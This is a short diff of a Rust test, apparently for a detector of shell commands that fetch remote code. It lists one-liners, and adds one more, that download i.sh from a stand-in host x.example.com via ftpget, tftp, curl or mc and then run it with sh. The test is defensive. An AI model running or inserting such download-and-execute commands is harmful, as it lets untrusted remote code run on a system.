@@ -29,6 +29,7 @@ fn an_address_comes_by_any_way_that_sets_a_variable() {
         "ftpget x.example.com i.sh i.sh; sh i.sh",
         "tftp -g -r i.sh x.example.com; sh i.sh",
         "exec > /i.sh; curl -s http://x.example.com/i.sh; sh /i.sh",
+        "exec > /i.sh; exec 2> /errors 3>&1; curl -s http://x.example.com/i.sh; sh /i.sh",
         "curl -s http://x.example.com/i.sh | su app -c sh",
         "mc alias set m http://x.example.com a b; mc cp m/b/i.sh /i.sh; sh /i.sh",
     ] {
